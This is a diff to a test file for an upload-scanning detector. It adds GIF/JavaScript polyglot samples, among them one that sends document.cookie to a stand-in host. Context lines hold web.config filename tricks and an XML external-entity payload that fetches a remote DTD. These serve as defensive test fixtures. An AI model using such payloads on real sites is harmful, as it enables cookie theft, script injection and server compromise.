@@ -115,6 +115,10 @@ describe('multipart part names, spelt as lenient parsers (PHP among them) accept
     expect(uploaded('web.config.', 'text/xml', '<configuration/>')).toContain('MaliciousUpload@multipart_filename');
     expect(uploaded('web.config::$DATA', 'text/xml', '<configuration/>')).toContain('MaliciousUpload@multipart_filename');
     expect(uploaded('photo.jpg', 'image/jpeg', 'JFIF\x00\x10<%\x01\x02 binary %> data')).toEqual([]);
+    // An image that is also a script, and a real GIF whose width byte is `=`
+    expect(uploaded('me.gif', 'image/gif', 'GIF89a=alert(document.domain)//')).toContain('MaliciousUpload@upload');
+    expect(uploaded('me.gif', 'image/gif', 'GIF89a/*\xff\xff*/=1;fetch("//x.example/"+document.cookie)//')).toContain('MaliciousUpload@upload');
+    expect(uploaded('pixel.gif', 'image/gif', 'GIF89a=\x00\x10\x00\xf7\x00\x00\x00\x00\x00,\x00\x00\x00\x00=\x00\x10\x00\x00\x08\xfe\x00;')).toEqual([]);
     // A document that opens as XML, whatever it is called (an XML spreadsheet named .xls)
     expect(
       uploaded('contacts.xls', 'application/vnd.ms-excel', '<?xml version="1.0"?><!DOCTYPE W [<!ENTITY % e SYSTEM "http://203.0.113.9/x.dtd"> %e;]><W/>'),
